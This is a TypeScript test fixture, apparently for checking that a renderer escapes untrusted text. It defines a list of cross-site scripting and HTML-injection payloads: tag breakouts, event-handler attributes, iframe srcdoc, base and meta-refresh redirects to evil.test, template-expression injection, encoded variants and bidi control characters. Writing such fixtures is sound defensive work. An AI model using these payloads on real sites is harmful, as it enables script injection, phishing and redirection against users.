// Text that tries to become something else. What it plants bears a mark; what it runs calls `ran`.

const single = [
  '</title><meta data-planted http-equiv=refresh content="0;url=http://evil.test/">',
  '</textarea><h1 data-planted>Session expired</h1>',
  '</script><script data-planted>ran(1)</script>',
  '"><img data-planted src=x onerror=ran(2)>',
  "'><svg data-planted onload=ran(3)>",
  '<link data-planted rel=prefetch href=http://evil.test/p>',
  '<iframe data-planted srcdoc="<script>parent.ran(4)</script>">',
  '<base data-planted href=http://evil.test/>',
  '" autofocus onfocus=ran(5) data-planted x="',
  "' style='background:url(http://evil.test/s)' data-planted x='",
  '` onmouseover=ran(6) data-planted `',
  '</noscript><form data-planted action=http://evil.test/><input name=q>',
  '<object data-planted data=http://evil.test/o><embed data-planted src=http://evil.test/e>',
  '<math><mtext><style><img data-planted src onerror=ran(7)></style></mtext></math>',
  '%3Cscript data-planted%3Eran(8)%3C/script%3E',
  '&lt;img data-planted src=x onerror=ran(9)&gt;&#60;b data-planted&#62;',
  '\\u003cscript data-planted\\u003eran(10)\\u003c/script\\u003e',
  '{{constructor.constructor("ran(11)")()}}${ran(12)}',
  '\u202egnp.elbat\u2066\u200b\ufeff\u2028\u2029',
  '\u0001\u0007\u001b[31m\u007f\u0085',
  '</template></style></svg><b data-planted>',
  '--><i data-planted>',
];
/** What swallows the text after it stands at an end; what is an address stands at a beginning. */
const endings = ['<!--', '<template data-planted><plaintext data-planted>'];
const beginnings = ['javascript:ran(13)//', 'data:text/html,<script>parent.ran(14)</script>', '//evil.test/'];

export const payloads = [...single, ...endings, ...beginnings];

/** Payloads put together, so that one name carries many of them; each begins and ends differently. */
export const mixtures: Record<string, { begin: string; end: string }> = Object.fromEntries(
  ['first', 'second', 'third'].map((name, index) => {
    const part = single.filter((_, position) => position % 3 === index);
    return [name, { begin: index === 0 ? '' : beginnings[index]!, end: `planted words${part.join('')}${endings[index % 2]}` }];
  }),
);
mixtures.script = { begin: beginnings[0]!, end: 'planted words' };
